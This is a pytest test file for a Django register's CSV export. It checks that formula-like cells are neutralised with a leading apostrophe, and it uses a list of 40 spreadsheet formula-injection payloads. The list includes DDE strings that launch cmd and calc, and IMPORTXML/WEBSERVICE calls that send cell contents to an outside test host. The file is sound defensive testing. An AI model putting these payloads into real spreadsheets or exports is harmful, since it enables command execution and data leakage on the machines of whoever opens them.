"""The register as CSV: no cell is a formula to the program that opens it."""

import csv
import io

import pytest
from django.test import Client

from exclave.apps.register.exporting import BOM, csv_lines, neutral
from exclave.sample_city.city import City

from . import factories

PAYLOADS = [
    "=1+1", "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://example.test\",\"x\")", "=SUM(A1:A9)", "=2+5+cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://example.test/\",A1),\"//a\")", "=WEBSERVICE(\"http://example.test\")", "=DDE(\"cmd\";\"/C calc\")",
    "+1+1", "+cmd|'/C calc'!A0", "+SUM(1,2)", "-1+1", "-2+3+cmd|' /C calc'!A0", "-cmd|'/C notepad'!A1", "@SUM(1+9)",
    "@A1", "@cmd|'/C calc'!A0", "\t=1+1", "\tSUM(1)", "\r=1+1", "\rx", "\n=1+1", "\nx", " =1+1", "  +1", " -1", " @A1",
    "\u3000=1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u2060@A1", "＝1+1", "＋1", "－1", "＠A1", "=", "+", "-", "@",
]  # fmt: skip


def test_forty_payloads_are_listed() -> None:
    assert len(PAYLOADS) == len(set(PAYLOADS)) == 40


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutral_puts_an_apostrophe_before_a_formula(payload: str) -> None:
    assert neutral(payload) == f"'{payload}"


@pytest.mark.parametrize(
    "text", ["示例机构", "A=B", "1-2", "a@b.test", "", "EZ-P-2025-0001", "（虚构）", "2025-04-30"]
)
def test_neutral_leaves_ordinary_text_alone(text: str) -> None:
    assert neutral(text) == text


def test_neutral_of_nothing_is_empty() -> None:
    assert neutral(None) == ""


def test_csv_lines_quote_and_begin_with_the_mark() -> None:
    text = "".join(csv_lines(["甲", "乙"], [["a,b", 'say "x"'], ["=1", None]]))
    assert text == f'{BOM}甲,乙\r\n"a,b","say ""x"""\r\n\'=1,\r\n'


def _rows(client: Client, address: str) -> list[dict[str, str]]:
    response = client.get(address)
    assert response.headers["Content-Type"].startswith("text/csv")
    assert "attachment" in response.headers["Content-Disposition"]
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.django_db
def test_export_holds_every_payload_as_text(client: Client, notice_city: City) -> None:
    for n, payload in enumerate(PAYLOADS):
        opened = {"institution.name": payload, "applicant.name": payload, "institution.place": "310115"}
        factories.institutions(notice_city, 1, name=f"p{n}", public=opened)
    rows = _rows(client, "/register/export.csv")
    names = [row["机构"] for row in rows] + [row["依托单位"] for row in rows]
    assert sum(name.startswith("'") for name in names) == 2 * len(PAYLOADS)
    for payload in PAYLOADS:
        assert f"'{payload}" in names
    assert not [cell for row in rows for cell in row.values() if cell[:1] in "=+-@\t\r" and cell]


@pytest.mark.django_db
def test_export_follows_the_filters_of_the_address(client: Client, notice_city: City) -> None:
    assert len(_rows(client, "/register/export.csv")) == 3
    assert [row["飞入地"] for row in _rows(client, "/register/export.csv?region=310000")] == [
        "上海市浦东新区"
    ]
    assert _rows(client, "/register/export.csv?state=removed") == []


@pytest.mark.django_db
def test_export_speaks_the_readers_language(client: Client, notice_city: City) -> None:
    client.cookies["language"] = "en"
    rows = _rows(client, "/register/export.csv?region=310000")
    assert rows[0]["Host place"] == "Pudong New Area, Shanghai" and rows[0]["State"] == "filed"
